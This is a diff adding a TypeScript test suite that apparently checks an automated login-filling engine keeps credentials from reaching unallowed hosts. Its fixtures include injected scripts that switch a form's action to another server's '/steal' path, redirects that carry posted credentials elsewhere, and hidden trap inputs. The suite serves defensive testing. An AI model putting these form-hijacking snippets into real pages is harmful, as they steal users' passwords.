@@ -1,0 +1,158 @@
+import { describe, expect, it } from 'vitest';
+import { asked, closing, connect, ended } from '../run-engine';
+import { acme, page, type Reply, type Site, startSite } from '../site';
+
+const VALUES = { identifier: 'ada', password: 'correct horse' };
+const FORM = (action: string, more = '') =>
+  `<h1>Sign in</h1><form id="f" method="post" action="${action}"><label>Username <input name="user"></label>
+   <label>Password <input type="password" name="pass"></label><button>Sign in</button></form>${more}`;
+
+/** A site that is there, and that nobody has allowed. */
+async function thief(): Promise<Site> {
+  return closing(await startSite(() => page('<h1>Got it</h1>')));
+}
+
+const LOOK_ALIKE = FORM('/session');
+
+describe('what was typed goes nowhere but to the site', () => {
+  it('a form that is sent elsewhere from the beginning is not filled in', async () => {
+    const other = await thief();
+    const site = closing(await startSite(() => page(FORM(`${other.url}/steal`))));
+    const connection = await connect(site);
+    await connection.login();
+    expect(ended(await connection.fill(VALUES))).toBe('FAILED domain_not_allowed NEEDS_AUTH');
+    expect(other.requests).toEqual([]);
+  });
+
+  it('a form that moves between reading and filling is not filled in', async () => {
+    const other = await thief();
+    const move = `<script>
+      document.querySelector('input').addEventListener('focus', () => { document.title = 'focused'; });
+      const read = Element.prototype.getBoundingClientRect;
+      new PerformanceObserver(() => {}).observe({ entryTypes: ['mark'] });
+      setInterval(() => { if (performance.now() > 2500) document.getElementById('f').action = '${other.url}/steal'; }, 20);
+    </script>`;
+    const site = closing(
+      await startSite(({ method }) => (method === 'POST' ? page('in') : page(FORM('/session', move)))),
+    );
+    const connection = await connect(site);
+    await connection.login();
+    await new Promise((resolve) => setTimeout(resolve, 2_600));
+    expect(ended(await connection.fill(VALUES))).toMatch(/^FAILED (domain_not_allowed|navigation_confused)/);
+    expect(other.requests).toEqual([]);
+    expect(site.requests.every(({ method }) => method === 'GET')).toBe(true);
+  });
+
+  it('a form that moves when it is sent is stopped on its way', async () => {
+    const other = await thief();
+    const move = `<script>document.getElementById('f').onsubmit = (e) => { e.target.action = '${other.url}/steal'; };</script>`;
+    const site = closing(await startSite(() => page(FORM('/session', move))));
+    const connection = await connect(site);
+    await connection.login();
+    expect(ended(await connection.fill(VALUES))).toBe('FAILED domain_not_allowed NEEDS_AUTH');
+    expect(other.requests).toEqual([]);
+  });
+
+  it.each([302, 307, 308])('a %i that carries it elsewhere is not followed', async (status) => {
+    const other = await thief();
+    const site = closing(
+      await startSite(
+        ({ method }): Reply =>
+          method === 'POST' ? { status, location: `${other.url}/steal` } : page(FORM('/session')),
+      ),
+    );
+    const connection = await connect(site);
+    await connection.login();
+    expect(ended(await connection.fill(VALUES))).toBe('FAILED domain_not_allowed NEEDS_AUTH');
+    expect(other.requests).toEqual([]);
+  });
+
+  it('a form that is sent into a frame or a new window elsewhere is stopped', async () => {
+    const other = await thief();
+    for (const target of ['sink', '_blank']) {
+      const move = `<iframe name="sink"></iframe><script>document.getElementById('f').onsubmit = (e) => {
+        e.target.action = '${other.url}/steal'; e.target.target = '${target}'; };</script>`;
+      const site = closing(await startSite(() => page(FORM('/session', move))));
+      const connection = await connect(site);
+      await connection.login();
+      expect(ended(await connection.fill(VALUES)), target).not.toContain('SUCCESS');
+    }
+    expect(other.requests).toEqual([]);
+  });
+});
+
+describe('an address of this machine is only open when it was named with its port', () => {
+  it('a redirect to it is not followed', async () => {
+    const other = await thief();
+    const site = closing(await startSite(() => ({ location: `${other.url}/admin` })));
+    const connection = await connect(site);
+    expect(ended(await connection.login())).toBe('FAILED domain_not_allowed NEEDS_AUTH');
+    expect(other.requests).toEqual([]);
+  });
+
+  it('pictures, scripts, frames and sockets of it are not asked for', async () => {
+    const other = await thief();
+    const parts = `<img src="${other.url}/a.png"><script src="${other.url}/a.js"></script><iframe src="${other.url}/f"></iframe>
+      <script>fetch('${other.url}/x', { mode: 'no-cors' }); new WebSocket('ws://127.0.0.1:${other.port}/s');
+      navigator.sendBeacon('${other.url}/b', 'x');</script>`;
+    const inner = acme();
+    const site = closing(
+      await startSite((exchange) => {
+        const reply = inner(exchange);
+        return { ...reply, html: reply.html?.replace('</body>', `${parts}</body>`) ?? '' };
+      }),
+    );
+    const connection = await connect(site);
+    await connection.login();
+    expect(ended(await connection.fill(VALUES))).toBe('SUCCESS AUTHENTICATED');
+    expect(other.requests).toEqual([]);
+  });
+});
+
+describe('a look-alike', () => {
+  it('in a frame of another site is not read', async () => {
+    const other = closing(await startSite(() => page(LOOK_ALIKE)));
+    const site = closing(
+      await startSite(() => page(`<h1>Portal</h1><iframe width="500" height="300" src="${other.url}/"></iframe>`)),
+    );
+    const connection = await connect(site, { allow: [site.host, other.host] });
+    expect(ended(await connection.login())).toBe('FAILED login_form_not_found NEEDS_AUTH');
+    expect(other.requests.length).toBeGreaterThan(0);
+  });
+
+  it("beside the site's own form is not filled in", async () => {
+    const other = closing(await startSite(() => page(LOOK_ALIKE)));
+    const inner = acme();
+    const site = closing(
+      await startSite((exchange) => {
+        const reply = inner(exchange);
+        const frame = `<iframe width="500" height="300" src="${other.url}/"></iframe></body>`;
+        return { ...reply, html: reply.html?.replace('</body>', frame) ?? '' };
+      }),
+    );
+    const connection = await connect(site, { allow: [site.host, other.host] });
+    expect(asked(await connection.login())).toBe('identifier password');
+    expect(ended(await connection.fill(VALUES))).toBe('SUCCESS AUTHENTICATED');
+    expect(other.requests.every(({ method }) => method === 'GET')).toBe(true);
+  });
+
+  it('inputs that nobody sees stay empty', async () => {
+    const traps = `<input name="trap1" type="email" autocomplete="email" style="position:absolute;left:-9999px">
+      <input name="trap2" type="password" autocomplete="current-password" style="opacity:0">
+      <div style="height:0;overflow:hidden"><input name="trap3" autocomplete="username"></div>
+      <input name="trap4" type="hidden"><input name="trap5" autocomplete="tel" style="visibility:hidden">`;
+    const site = closing(
+      await startSite(({ method }) =>
+        method === 'POST'
+          ? { location: '/home', cookie: 'sid=in' }
+          : page(FORM('/session').replace('<button>', `${traps}<button>`)),
+      ),
+    );
+    const connection = await connect(site);
+    expect(asked(await connection.login())).toBe('identifier password');
+    await connection.fill(VALUES);
+    const sent = site.requests.find(({ method }) => method === 'POST')?.body;
+    expect(sent?.get('user')).toBe('ada');
+    for (const [name, value] of sent ?? []) if (name.startsWith('trap')) expect(value, name).toBe('');
+  });
+});
